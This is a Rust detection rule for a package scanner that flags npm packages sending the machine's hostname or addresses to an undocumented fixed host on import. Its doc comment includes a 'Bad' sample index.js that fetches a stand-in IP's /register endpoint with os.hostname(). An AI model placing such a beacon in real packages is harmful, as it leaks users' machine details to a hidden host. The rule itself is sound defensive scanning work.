//! # Facts of the machine leave it at import
//!
//! When the package is loaded, the name of the machine or its user, or its addresses, reach a constant host
//! of which the package says nothing.
//!
//! ## Why it matters
//!
//! Remote-access tools register their victim with such facts before they wait for commands.
//!
//! ## Known benign uses
//!
//! Monitoring agents and loggers send the machine's name to a host that the user sets or the documentation
//! names.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const os = require("os");
//! fetch("http://203.0.113.4:5918/register?h=" + os.hostname()); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "acme-logger", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const os = require("os");
//! exports.log = (address, line) => fetch(address, { method: "POST", body: os.hostname() + " " + line });
//! ```
//!
//! ## References
//!
//! - Socket: XORIndex (July 2025)

use crate::prelude::*;

/// Facts of the machine leave it at import.
pub struct HostFactsSentAtImport;

impl Rule for HostFactsSentAtImport {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "host-facts-sent-at-import",
            title: "Facts of the machine leave it at import",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1082",
            covers: &["collect-host-recon", "exfil-http-post"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_constant = |sink: &Sink| sink.leaves_machine() && sink.host().is_some();
        for flow in facts.flows(|source| *source == Source::HostFact, is_constant) {
            if flow.trigger == Trigger::Import
                && facts.goes_unsaid(flow)
                && !flow.sink.host().is_some_and(|host| facts.says_host(host))
            {
                found.flow(flow);
            }
        }
    }
}
